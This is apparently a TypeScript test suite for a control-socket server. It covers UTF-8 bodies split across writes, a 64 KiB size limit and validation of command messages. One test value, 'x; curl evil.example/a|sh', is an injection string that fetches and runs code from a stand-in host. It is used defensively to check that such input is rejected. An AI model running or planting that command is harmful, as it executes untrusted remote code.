// What goes over the control socket: any text, whatever pieces it comes in, and no more than may be.
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as assert from 'uvu/assert'
import { askControl, serveControl } from '../../src/adapters/control.ts'
import { E } from '../../src/fp.ts'
import type { Question } from '../../src/ports.ts'
import { spec } from '../support/spec.ts'

const withPath = async (use: (path: string) => Promise<void>): Promise<void> => {
  const dir = mkdtempSync(join(tmpdir(), 'control-'))
  try {
    await use(join(dir, 'control.sock'))
  } finally {
    rmSync(dir, { recursive: true })
  }
}

/** Serves, and gives what was asked. */
const served = async (path: string, use: () => Promise<void>): Promise<ReadonlyArray<Question>> => {
  const asked: Array<Question> = []
  const handle = async (question: Question): Promise<unknown> => {
    asked.push(question)
    return { _tag: 'Done' }
  }
  const serving = await serveControl({ path, group: undefined, handle, version: '1' })()
  assert.ok(E.isRight(serving))
  await use()
  await serving.right()
  return asked
}

/** What comes back when a body is sent in two pieces that part here. */
const sent = (path: string, body: Buffer, at: number): Promise<string> =>
  new Promise((resolve) => {
    let text = ''
    const socket = connect(path)
    socket.write(`POST / HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: ${body.length}\r\n\r\n`)
    socket.write(body.subarray(0, at), () => setTimeout(() => socket.write(body.subarray(at)), 50))
    socket.on('data', (piece) => {
      text += String(piece)
    })
    socket.on('error', () => undefined)
    socket.on('close', () => resolve(text))
  })

const question = (reason: string): Question => ({ _tag: 'Approve', digest: 'sha256:1', reason, by: 'jörg' })
const person = { reason: 'r', by: 'jörg' }
const isText = (value: unknown): value is string => typeof value === 'string'

spec('the control socket', (test) => {
  test('takes a reason as it was written, wherever it is cut on its way', () =>
    withPath(async (path) => {
      const body = Buffer.from(JSON.stringify(question('für €')))
      const asked = await served(path, async () => {
        for (const letter of ['ü', '€', 'ö'])
          assert.match(await sent(path, body, body.indexOf(letter) + 1), /^HTTP\/1.1 200/, letter)
      })
      assert.equal(
        asked,
        Array.from({ length: 3 }, () => question('für €')),
      )
    }))

  test('takes no bytes that are no text', () =>
    withPath(async (path) => {
      const asked = await served(path, async () => {
        const body = Buffer.from(JSON.stringify(question('f?r')).replace('?', '\xfc'), 'latin1')
        assert.match(await sent(path, body, 1), /^HTTP\/1.1 400/)
      })
      assert.equal(asked, [])
    }))

  test('takes 64 KiB, whatever letters they are, and not more', () =>
    withPath(async (path) => {
      const asked = await served(path, async () => {
        const short = Buffer.from(JSON.stringify({ _tag: 'Approve', digest: 'ü'.repeat(32_000), ...person }))
        const long = Buffer.from(JSON.stringify({ _tag: 'Approve', digest: 'ü'.repeat(33_000), ...person }))
        assert.match(await sent(path, short, 1), /^HTTP\/1.1 200/)
        assert.is(await sent(path, long, 1), '')
      })
      assert.is(asked.length, 1)
    }))

  const until = 1
  const holds = (what: object) => ({ _tag: 'Decide', decision: { _tag: 'Hold', what, until }, ...person })
  const releases = (what: object) => ({ _tag: 'Decide', decision: { _tag: 'Release', what, every: false }, ...person })
  const long = '*'.repeat(129)
  const evil = 'x; curl evil.example/a|sh'
  const taken: ReadonlyArray<object> = [
    holds({ _tag: 'Users', glob: '*'.repeat(128) }),
    holds({ _tag: 'Removals' }),
    holds({ _tag: 'All' }),
    releases({ _tag: 'Stop', glob: 'one*' }),
    releases({ _tag: 'Undo', run: '20261124T080035Z-5161f4', users: [] }),
    { _tag: 'Decide', decision: { _tag: 'Release', every: true }, ...person },
    { _tag: 'Stop', glob: '*', until, ...person },
    { _tag: 'PlanUndo', run: '2026' },
    { ...question('r'.repeat(10_000)), by: 'b'.repeat(256) },
  ]
  for (const asked of taken)
    test(`takes what a command asks: ${JSON.stringify(asked).slice(0, 100)}`, () =>
      withPath(async (path) => {
        const heard = await served(path, async () => {
          assert.match(await sent(path, Buffer.from(JSON.stringify(asked)), 1), /^HTTP\/1.1 200/)
        })
        assert.equal(heard, [asked])
      }))

  for (const [why, asked] of [
    ['a hold that only an undo makes', holds({ _tag: 'Undo', run: '2026', users: [] })],
    ['a hold that only a stop makes', holds({ _tag: 'Stop', glob: '*' })],
    ['a hold of nobody', holds({ _tag: 'Users', glob: '' })],
    ['a pattern that is too long', holds({ _tag: 'Users', glob: long })],
    ['the end of a hold of nobody', releases({ _tag: 'Users', glob: '' })],
    ['a run that is a command', releases({ _tag: 'Undo', run: evil, users: [] })],
    ['the undoing of such a run', { _tag: 'Undo', run: evil, agreement: { _tag: 'Anyway' }, ...person }],
    ['the plan of it', { _tag: 'PlanUndo', run: evil }],
    ['a stop of nobody', { _tag: 'Stop', glob: '', until, ...person }],
    ['a question who that would be', { _tag: 'Matching', glob: long }],
    ['a protection of nobody', { _tag: 'Decide', decision: { _tag: 'Unprotect', glob: '' }, ...person }],
    ['a reason without end', question('r'.repeat(10_001))],
    ['a name without end', { ...question('r'), by: 'b'.repeat(257) }],
  ] as const)
    test(`takes nothing that no command asks: ${why}`, () =>
      withPath(async (path) => {
        const heard = await served(path, async () => {
          assert.match(await sent(path, Buffer.from(JSON.stringify(asked)), 1), /^HTTP\/1.1 400/)
        })
        assert.equal(heard, [])
      }))

  test('gives an answer as it was written, wherever it is cut on its way', () =>
    withPath(async (path) => {
      const answer = Buffer.from(JSON.stringify('für €'))
      let at = 0
      const server = createServer((_, response) => {
        response.write(answer.subarray(0, at))
        setTimeout(() => response.end(answer.subarray(at)), 50)
      })
      await new Promise<void>((listening) => server.listen(path, listening))
      for (const letter of ['ü', '€']) {
        at = answer.indexOf(letter) + 1
        assert.equal(await askControl({ path, meant: {} }, { _tag: 'Status' }, isText), E.right('für €'))
      }
      server.close()
      server.closeAllConnections()
    }))
})
